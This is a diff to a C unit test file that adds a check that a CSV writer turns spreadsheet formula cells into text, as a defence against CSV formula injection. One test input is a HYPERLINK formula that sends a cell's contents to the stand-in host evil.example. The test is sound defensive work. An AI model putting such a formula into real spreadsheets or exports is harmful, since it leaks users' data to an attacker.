@@ -143,9 +143,28 @@ static void test_put_field_round_trip(void **state) {
     sbufFree(&b);
 }
 
+/* Cells a spreadsheet would run as formulas come out as text (issue 8 finding 4). */
+static void test_put_field_neutralises_formulas(void **state) {
+    (void)state;
+    const char *in[] = {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")", "+1", "-2", "@SUM(A1)", "\t=1+1",
+                        "\r=1", "=1+1镇", "a=b", "1-2", "福顺-1"};
+    const char *out[] = {"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"点击\"\")\"", "\"'+1\"", "\"'-2\"",
+                         "\"'@SUM(A1)\"", "\"'\t=1+1\"", "\"'\r=1\"", "\"'=1+1镇\"", "a=b", "1-2", "福顺-1"};
+    sbuf b;
+    sbufInit(&b);
+    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
+        sbufClear(&b);
+        csvPutField(&b, in[i]);
+        assert_string_equal(b.data, out[i]);
+        assert_int_equal(csvFormulaLike(in[i]), out[i][0] == '"');
+    }
+    sbufFree(&b);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {cmocka_unit_test(test_quoting), cmocka_unit_test(test_malformed),
                                        cmocka_unit_test(test_gbk), cmocka_unit_test(test_undecodable),
-                                       cmocka_unit_test(test_put_field_round_trip)};
+                                       cmocka_unit_test(test_put_field_round_trip),
+                                       cmocka_unit_test(test_put_field_neutralises_formulas)};
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
